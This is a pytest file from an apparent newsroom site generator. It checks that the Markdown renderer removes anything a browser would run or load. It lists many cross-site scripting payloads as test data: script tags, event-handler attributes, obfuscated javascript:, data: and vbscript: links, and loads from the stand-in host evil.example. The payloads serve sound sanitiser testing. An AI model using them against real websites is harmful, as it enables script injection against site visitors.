"""Nothing that a browser would run survives in a body, whatever way it was written."""

import re
from html.parser import HTMLParser

import pytest

from newsroom.article.place import SourceText
from newsroom.manuscript.markup import render
from newsroom.manuscript.raw_html import ATTRIBUTES, TAGS

RUN = "alert(7)"
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script\t>{RUN}</script\t>",
    f"<scr\x02ipt>{RUN}</scr\x02ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"\u200b<script>{RUN}</script>",
    '<script src="//evil.example/x.js"></script>',
    '<script type="module">import("//evil.example/x.js")</script>',
    f"一段<b><script>{RUN}</script></b>二段",
    f"- 一\n- <script>{RUN}</script>",
    f"> <script>{RUN}</script>",
    f"|a|\n|-|\n|<script>{RUN}</script>|",
    f"[^1]\n\n[^1]: <script>{RUN}</script>",
    f"# <script>{RUN}</script>",
    f"[<script>{RUN}</script>](https://gov.example/)",
    f"![<script>{RUN}</script>](../../images/pot.jpg)",
    f'![图](../../images/pot.jpg "<script>{RUN}</script>")',
    f"<p\n<script>{RUN}</script>",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><script>{RUN}</script>",
    f"<!-- --><script>{RUN}</script><!-- -->",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mi><table><mglyph><style><img src=x onerror={RUN}>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src='x' onerror='{RUN}'",
    f'<img """><p onclick="{RUN}">',
    f"<p onclick={RUN}>点</p>",
    f"<p OnClick='{RUN}'>点</p>",
    f'<p title="a" onclick="{RUN}">点</p>',
    f"<a href='https://gov.example/' onmouseover={RUN}>点</a>",
    f"<b onpointerenter={RUN}>点</b>",
    f"<table onscroll={RUN}><tr><td>点</td></tr></table>",
    f"<td onclick={RUN}>",
    f"<sup id=x onclick={RUN}>1</sup>",
    f"<details open ontoggle={RUN}><summary>点</summary></details>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<video autoplay onplay={RUN}><source src=x></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>点</marquee>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>点</button></form>",
    "<p style='background:url(javascript:alert(7))'>点</p>",
    "<style>@import '//evil.example/x.css';</style>",
    f'[点](https://gov.example/"onmouseover="{RUN})',
    f"[点](https://gov.example/ '\"onmouseover={RUN}')",
    f'![图" onerror="{RUN}](../../images/pot.jpg)',
    f'![图](../../images/pot.jpg"onerror="{RUN})',
    f'<https://gov.example/"onmouseover="{RUN}>',
    f"`<img src=x onerror={RUN}>`",
]
LINKS = [
    f"[点](javascript:{RUN})",
    f"[点](JAVASCRIPT:{RUN})",
    f"[点]( javascript:{RUN} )",
    f"[点](<javascript:{RUN}>)",
    f"[点](<java\tscript:{RUN}>)",
    f"[点](java&#9;script:{RUN})",
    f"[点](java&#x0D;script:{RUN})",
    f"[点](&#106;&#97;&#118;&#97;script:{RUN})",
    f"[点](&#x6A;avascript&#x3A;{RUN})",
    f"[点](javascript&colon;{RUN})",
    f"[点](java\\script:{RUN})",
    f"[点](javascript\\:{RUN})",
    f"[点](&#1;javascript:{RUN})",
    f"[点](\u200bjavascript:{RUN})",
    f"[点](java\u200dscript:{RUN})",
    f"[点](feed:javascript:{RUN})",
    f"[点](view-source:javascript:{RUN})",
    f"[点][x]\n\n[x]: javascript:{RUN}",
    f"[点][x]\n\n[x]: <javascript:{RUN}> '题'",
    f"<a href='javascript:{RUN}'>点</a>",
    f"<a href=java&#10;script:{RUN}>点</a>",
    f"<a href=' &#14; javascript:{RUN}'>点</a>",
    f"<a HREF=JavaScript:{RUN}>点</a>",
    f"<a href='jav\nascript:{RUN}'>点</a>",
    f"<a xlink:href='javascript:{RUN}'>点</a>",
    f"<javascript:{RUN}>",
    "[点](data:text/html,<script>alert(7)</script>)",
    "[点](DATA:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)",
    "[点](vbscript:msgbox(7))",
    "[点](VbScript&#58;msgbox(7))",
    "[点](blob:https://gov.example/7)",
    "[点](filesystem:https://gov.example/7)",
    "[点](intent://evil.example/#Intent;scheme=https;end)",
    "[点](file:///etc/passwd)",
    "[点](//evil.example/)",
    "[点](\\\\\\\\evil.example/)",
    "[点](/\\\\evil.example/)",
    "[点](http:\\\\\\\\evil.example/)",
    "![图](javascript:alert(7))",
    "![图](data:image/svg+xml,<svg onload=alert(7)>)",
    "![图](https://evil.example/x.png)",
    "![图](//evil.example/x.png)",
    "<ftp://evil.example/>",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS]


class Reader(HTMLParser):
    """Collects what of a page would run or load: elements, attributes and schemes beyond the allowed ones."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.strange: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.strange.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, frozenset()):
                self.strange.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?://|mailto:|#|/(?![/\\])|\{filename\}/)", value or ""):
                self.strange.append(f"href {value}")
            if name == "src" and not (value or "").startswith("{static}/"):
                self.strange.append(f"src {value}")

    def handle_comment(self, data: str) -> None:
        self.strange.append("comment")

    def unknown_decl(self, data: str) -> None:
        self.strange.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.strange.append("instruction")


def strange_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.strange


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_survives(payload: str) -> None:
    for text in (payload, f"前{payload}后", f"前\n\n{payload}\n\n后"):
        assert strange_in(render(SourceText("content/articles/progress/x.md", text), 0, {}).body.html) == []


@pytest.mark.parametrize("payload", LINKS)
def test_a_link_to_no_web_page_is_found_or_stays_text(payload: str) -> None:
    rendered = render(SourceText("content/articles/progress/x.md", payload), 0, {})
    assert rendered.faults or rendered.body.links or "<a" not in rendered.body.html
    assert all(link.internal for link in rendered.body.links)


def test_the_reader_of_this_test_sees_what_runs() -> None:
    page = '<script>x</script><p onclick=x><a href="javascript:x"><img src="//x"><!-- x -->'
    assert strange_in(page) == ["script", "p onclick", "href javascript:x", "src //x", "comment"]
